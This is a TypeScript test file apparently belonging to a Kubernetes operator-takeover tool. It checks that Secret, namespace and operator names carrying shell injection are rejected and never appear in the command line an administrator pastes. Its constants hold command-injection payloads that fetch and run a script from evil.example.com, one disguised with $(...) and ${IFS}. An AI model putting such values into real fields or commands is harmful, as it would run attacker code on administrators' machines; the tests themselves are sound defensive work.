// Names that would be commands in the line that an administrator pastes into a shell to grant what
// lacks. The legacy object has no schema, and whoever may write it has no such rights himself.
import { expect, test } from 'vitest';
import { beginChart } from './chart-world.ts';
import { beginNats } from './nats-world.ts';
import { beginWithTls, into } from './secrets.ts';
import { begin, forbid, plan } from './world.ts';

const EVIL = 'x; curl evil.example.com | sh #';
const SHOWN = JSON.stringify(EVIL);
const SUBSTITUTED = '$(curl${IFS}evil.example.com)';

/** All that people could paste: what a plan says from the name of a command on. */
const linesIn = (messages: readonly string[]): readonly string[] =>
  messages.flatMap((message) => message.match(/npm run -s rights.*$/s) ?? []);

async function expectUnpasted(refused: string): Promise<void> {
  const { id, refusals, notes } = await plan();
  expect(id).toBeUndefined();
  expect(refusals.map(({ reason }) => reason)).toContain('NameInvalid');
  const of = refusals.filter(({ reason }) => reason === 'NameInvalid');
  expect(of.map(({ message }) => message).join('\n')).toContain(refused);
  for (const line of linesIn([...refusals, ...notes].map(({ message }) => message))) {
    expect(line).toMatch(/^npm run -s rights -- takeover -n shop( --[a-z]+ [-a-z0-9./]+)+ [|] /);
    expect(line).toMatch(/ [|] kubectl apply -f -$/);
    expect(line).not.toContain('evil');
  }
}

const tls = (of: object) => ({
  legacy: { TLS: { static: { member: { serverSecret: 'server' }, operatorSecret: 'o', ...of } } },
});

test.each([
  ['the operator', { operatorSecret: EVIL }],
  ['members', { member: { serverSecret: EVIL } }],
])('the legacy object names a Secret of %s that is a command', async (_, of) => {
  beginWithTls();
  begin({ ...tls(of), spec: into({ tls: { clients: { secretName: 'given' } } }) });
  for (const name of [EVIL, 'o', 'server', 'given']) forbid('secrets', name);
  await expectUnpasted(`names a Secret ${SHOWN}, and none can have that name`);
});

test.each(['clients', 'peers'])('spec.into.spec names one for %s', async (side) => {
  beginWithTls({ ...into({ tls: { [side]: { secretName: SUBSTITUTED } } }) });
  for (const name of [SUBSTITUTED, 'server']) forbid('secrets', name);
  await expectUnpasted(JSON.stringify(SUBSTITUTED));
});

test('spec.into.spec names one for peers of a cluster without TLS', async () => {
  begin({ spec: into({ tls: { peers: { secretName: EVIL } } }) });
  await expectUnpasted(SHOWN);
});

test.each([
  [{ namespace: 'ops', name: EVIL }],
  [{ namespace: `ops; ${EVIL}`, name: 'etcd-operator' }],
])('spec.legacy.operator names %j', async (operator) => {
  const legacy = { apiVersion: 'etcd.database.coreos.com/v1beta2', kind: 'EtcdCluster' };
  beginWithTls({ legacy: { ...legacy, name: 'old', operator } });
  for (const secret of ['operator', 'server']) forbid('secrets', secret);
  forbid('deployments', operator.name);
  await expectUnpasted(JSON.stringify(operator.name));
});

test.each(['clients', 'routes'])('a NatsCluster names one for %s', async (side) => {
  beginNats({ into: { tls: { [side]: { secretName: EVIL } } } });
  forbid('secrets', 'old');
  await expectUnpasted(SHOWN);
});

test('servers of a chart have a password from one', async () => {
  const from = { secretKeyRef: { name: EVIL, key: 'password' } };
  const users = [{ user: 'web', password: '<< $WEB >>' }];
  const env = [{ name: 'WEB', valueFrom: from }];
  beginChart({ config: { authorization: { users } }, set: { env } });
  for (const name of [EVIL, 'new-users']) forbid('secrets', name);
  await expectUnpasted(SHOWN);
});
